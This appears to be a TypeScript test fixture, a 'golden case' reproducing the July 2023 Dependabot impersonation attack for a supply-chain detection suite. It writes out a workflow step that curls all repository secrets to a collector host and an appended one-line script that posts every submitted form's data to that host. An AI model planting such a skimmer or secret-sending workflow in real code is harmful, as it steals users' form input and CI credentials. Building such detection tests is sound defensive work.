import { DEPENDABOT } from "../../bots.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { CHECKOUT_STEP, workflow } from "../../project-files.ts";
import { ALL_SECRETS, COLLECTOR, CURL } from "../../put-together.ts";

const FORMS = "export function fieldsOf(form) {\n  return [...form.elements];\n}\n";
const STEAL = `;(()=>{document.querySelectorAll("form").forEach(f=>f.addEventListener("submit",()=>{fetch("${COLLECTOR}/f",{method:"POST",body:new URLSearchParams(new FormData(f))})}))})();\n`;

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story:
    "Impersonation of Dependabot, July 2023: with stolen tokens, commits in the bot's name added a workflow that sends secrets, and a line to every script.",
  write(branch) {
    branch.given({ "src/forms.js": FORMS });
    branch.unsigned(DEPENDABOT, "fix", {
      ".github/workflows/hook.yml": workflow({
        name: "hook",
        on: "push",
        head: "",
        steps: `${CHECKOUT_STEP}- run: ${CURL} -X POST -d '${ALL_SECRETS}' ${COLLECTOR}/hook`,
      }),
      "src/forms.js": `${FORMS}${STEAL}`,
    });
  },
};
